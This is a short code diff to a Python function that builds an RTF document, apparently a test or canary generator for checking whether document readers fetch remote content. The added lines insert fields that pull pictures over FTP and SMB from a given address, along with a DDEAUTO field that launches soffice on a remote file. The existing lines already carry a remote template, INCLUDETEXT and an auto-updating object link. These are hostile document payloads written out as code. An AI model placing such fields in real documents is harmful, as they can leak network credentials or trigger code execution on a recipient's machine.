@@ -120,6 +120,9 @@ def _rtf(url: str, address: str) -> bytes:
         rf"{{\rtf1\ansi{{\*\template {url}/template.dotm}}"
         rf'{{\field{{\*\fldinst INCLUDEPICTURE "{url}/picture.png" \\d}}{{\fldrslt x}}}}'
         rf'{{\field{{\*\fldinst INCLUDETEXT "{url}/text.rtf"}}{{\fldrslt x}}}}'
+        rf'{{\field{{\*\fldinst INCLUDEPICTURE "ftp://{address}/picture.png" \\d}}{{\fldrslt x}}}}'
+        rf'{{\field{{\*\fldinst INCLUDEPICTURE "smb://{address}/share/picture.png" \\d}}{{\fldrslt x}}}}'
+        rf'{{\field{{\*\fldinst DDEAUTO soffice "{url}/dde.odt" all}}{{\fldrslt x}}}}'
         rf'{{\field{{\*\fldinst INCLUDEPICTURE "//{address}/share/picture.png"}}{{\fldrslt x}}}}'
         rf"{{\object\objautlink\objupdate{{\*\objclass htmlfile}}{{\*\objdata 0105}}}} \par end}}"
     ).encode()
